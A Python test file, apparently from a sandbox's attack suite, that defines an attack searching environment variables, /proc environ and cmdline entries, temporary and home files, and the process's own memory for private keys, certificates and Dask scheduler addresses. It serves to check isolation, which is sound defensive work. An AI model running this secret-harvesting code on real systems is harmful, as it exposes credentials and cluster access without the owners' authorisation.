"""Looks for keys and addresses: in environments, in files and in all memory that can be read."""

from tests.attacks.suite import STUB, Attack

ATTACK = Attack(
    harm="the keys of a cluster, or a way to its scheduler",
    answer=STUB
    + """
import glob
import os
import re

# In a form that these lines themselves do not have.
SIGN = re.compile(rb"-----BEGIN [A-Z ]*(?:KEY|CERTIFICATE)-----\\s+[A-Za-z0-9+/]{40}|(?:tls|tcp)://[\\d.]+:\\d+")
for name, value in os.environ.items():
    if name.startswith("DASK") or SIGN.search(value.encode("utf-8", "replace")):
        succeeded(name)
paths = glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline")
for folder in (COURSE, os.environ.get("TMPDIR", "."), "/tmp", "/run", os.path.expanduser("~")):
    for depth in ("*", "*/*", "*/*/*"):
        paths += glob.glob(f"{folder}/{depth}")[:2000]
for path in paths:
    try:
        with open(path, "rb") as file:
            if SIGN.search(file.read(2**20)):
                succeeded(path)
    except OSError:
        pass
try:
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw" in line and end - start < 2**28:
                try:
                    memory.seek(start)
                    if SIGN.search(memory.read(end - start)):
                        succeeded("memory")
                except (OSError, ValueError, OverflowError):
                    pass
except OSError:
    pass
""",
    other_ends=("timeout",),
)
